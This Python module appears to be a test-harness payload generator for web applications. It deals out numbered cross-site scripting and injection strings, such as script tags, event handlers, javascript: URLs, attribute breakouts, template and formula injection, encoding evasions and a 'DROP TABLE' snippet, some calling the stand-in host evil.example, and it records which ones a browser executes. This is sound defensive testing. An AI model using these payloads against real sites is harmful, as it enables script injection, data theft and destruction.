"""Hostile strings without end: each tries to become more than text, and carries a number by which it is known again.

`ran(17)` is what would be called if number 17 were taken for a script; `evil.example/17` is asked for if it were taken
for a picture, a style or a form. The shapes are those of other people's broken pages: tags, handlers that start by
themselves, quotes that end an attribute, addresses that are scripts, text that is decoded once too often.
"""

import re
from dataclasses import dataclass, field
from random import Random

KNOWN = re.compile(r"(?:ran\(|evil\.example/)(\d+)", re.IGNORECASE)
"""Finds the numbers of strings in whatever shows them."""

TAGS = (
    "<script>ran({n})</script>",
    "<script src=//evil.example/{n}></script>",
    "<img src=x onerror=ran({n})>",
    "<img src=//evil.example/{n}>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x>",
    "<svg><use href=//evil.example/{n}>",
    "<svg><a href=javascript:ran({n})><text>a</text></a>",
    "<math><mtext></table><mglyph><style><img src=x onerror=ran({n})>",
    "<math href=javascript:ran({n})>a</math>",
    "<body onload=ran({n})>",
    "<iframe src=javascript:ran({n})>",
    "<iframe srcdoc=<script>ran({n})</script>>",
    "<iframe src=//evil.example/{n}>",
    "<object data=javascript:ran({n})>",
    "<embed src=//evil.example/{n}>",
    "<a href=javascript:ran({n})>a</a>",
    "<a href=data:text/html,<script>ran({n})</script>>a</a>",
    "<input autofocus onfocus=ran({n})>",
    "<button autofocus onfocus=ran({n}) formaction=javascript:ran({n})>",
    "<form action=//evil.example/{n}><button>Next</button></form>",
    "<form id=x><input name=attributes></form><input form=x onfocus=ran({n}) autofocus>",
    "<details open ontoggle=ran({n})>",
    "<video><source onerror=ran({n})>",
    "<video src=//evil.example/{n} autoplay>",
    "<audio src=x onerror=ran({n})>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>",
    "<style>@import'//evil.example/{n}'</style>",
    "<p style=background:url(//evil.example/{n})>",
    "<x style=animation:a onanimationstart=ran({n})>",
    "<marquee onstart=ran({n})>",
    "<dialog open onclose=ran({n})>",
    "<template><script>ran({n})</script></template>",
    "<noscript><p title=</noscript><img src=x onerror=ran({n})>>",
    "<select><option></select><img src=x onerror=ran({n})>",
    "<!--><img src=x onerror=ran({n})>-->",
    "<![CDATA[<script>ran({n})</script>]]>",
    "<?xml-stylesheet href=javascript:ran({n})?>",
    "<scr<script>ipt>ran({n})</scr</script>ipt>",
    "<img/src=`x`onerror=ran({n})>",
    "<isindex type=image src=1 onerror=ran({n})>",
)
ENDINGS = (
    '"><svg onload=ran({n})>',
    "'><svg onload=ran({n})>",
    '" autofocus onfocus=ran({n}) x="',
    "' autofocus onfocus=ran({n}) x='",
    "` onmouseover=ran({n}) x=`",
    "</script><script>ran({n})</script>",
    "</title><script>ran({n})</script>",
    "</textarea><script>ran({n})</script>",
    "</style><script>ran({n})</script>",
    "--><script>ran({n})</script>",
    "]]><script>ran({n})</script>",
    "');ran({n});//",
    '");ran({n});//',
    "\\');ran({n});//",
    "</script><!--<script>ran({n})",
    "*/ran({n})/*",
    "\u2028ran({n})//",
    "expression(ran({n}))",
    "url(//evil.example/{n})",
    "}}ran({n})",
)
_ADDRESSES = (
    "javascript:ran({n})",
    "java\tscript:ran({n})",
    " javascript:ran({n})",
    "javascript&colon;ran({n})",
    "vbscript:ran({n})",
    "data:text/html,<script>ran({n})</script>",
    "//evil.example/{n}",
    "[a](javascript:ran({n}))",
    "[a](//evil.example/{n})",
    "![a](//evil.example/{n})",
    '![a](x" onerror="ran({n}))',
    '[a](x "x" onmouseover="ran({n}))',
    "<javascript:ran({n})>",
    "[a][b]\n\n[b]: javascript:ran({n})",
)
_OTHERS = (
    "{{{{ran({n})}}}}",
    "{{% ran({n}) %}}",
    "${{ran({n})}}",
    "#{{ran({n})}}",
    "<%= ran({n}) %>",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "&#60;script&#62;ran({n})&#60;/script&#62;",
    "%3Cscript%3Eran({n})%3C/script%3E",
    "\\u003cscript\\u003eran({n})\\u003c/script\\u003e",
    "\\x3cscript\\x3eran({n})\\x3c/script\\x3e",
    "\uff1cscript\uff1eran({n})\uff1c/script\uff1e",
    "<scr\u200bipt>ran({n})</scr\u200bipt>",
    "\u202e<script>ran({n})</script>",
    "<script\u0000>ran({n})</script>",
    "+ADw-script+AD4-ran({n})+ADw-/script+AD4-",
    "__proto__ ran({n})",
    '{{"__html":"<img src=x onerror=ran({n})>"}}',
    '{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror=ran({n})>"}}}}',
    '=HYPERLINK("//evil.example/{n}")',
    "=1+ran({n})",
    "@ran({n})",
    "-ran({n})",
    "'; DROP TABLE seats; ran({n}) --",
    "a\u0300\u0301\u0302\u0303 ran({n})",
)
SHORTEST = 20
"""Characters: a field that takes fewer is left alone."""
SHAPES = (*TAGS, *ENDINGS, *_ADDRESSES, *_OTHERS)


def _with_quotes(shape: str) -> str:
    return re.sub(r"=([^\s<>\"'`=]+)", r'="\1"', shape)


def _in_capitals(shape: str) -> str:
    """Tags and handlers in mixed capitals; what is called stays as it is."""
    return re.sub(
        r"(</?|\bon)([a-z]+)",
        lambda found: found[1] + "".join(c.upper() if i % 2 else c for i, c in enumerate(found[2])),
        shape,
    )


WEARS = {
    "as it is": lambda shape: shape,
    "quoted": _with_quotes,
    "in capitals": _in_capitals,
    "slashes for blanks": lambda shape: shape.replace(" ", "/"),
    "lines for blanks": lambda shape: shape.replace(" ", "\n"),
    "never closed": lambda shape: shape.removesuffix(">"),
    "after a quote": lambda shape: '">' + shape,
    "after words": lambda shape: "Ana & Ben's " + shape,
    "twice": lambda shape: shape + shape,
    "escaped once": lambda shape: shape.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
}
"""What each shape is dressed in."""


@dataclass
class Hostile:
    """Deals them out, always another one. `dealt` counts them, `seen` are the numbers that a real browser has shown."""

    chance: Random
    dealt: int = 0
    seen: set[int] = field(default_factory=set)
    _rest: list[tuple[str, str]] = field(default_factory=list)

    def of(self, most: int) -> str:
        """The next that has at most this many characters. Every shape in every dress comes before any comes again,
        but for those that no field has had room for yet: they wait for a wider one."""
        for place in range(len(self._rest) - 1, -1, -1):
            shape, wear = self._rest[place]
            text = WEARS[wear](shape).format(n=self.dealt + 1)
            if len(text) <= most:
                del self._rest[place]
                self.dealt += 1
                return text
        if most < SHORTEST:
            raise ValueError("Nothing hostile is so short.")
        again = [(shape, wear) for shape in SHAPES for wear in WEARS]
        self.chance.shuffle(again)
        self._rest += again
        return self.of(most)

    def filling(self, most: int) -> str:
        """As many as there is room for, side by side."""
        text = self.of(most)
        while len(text) + 80 < most:
            text += " " + self.of(most - len(text) - 1)
        return text

    def shown(self, page: str) -> set[int]:
        """Takes note of what this page shows; gives it."""
        now = {int(number) for number in KNOWN.findall(page)}
        self.seen |= now
        return now
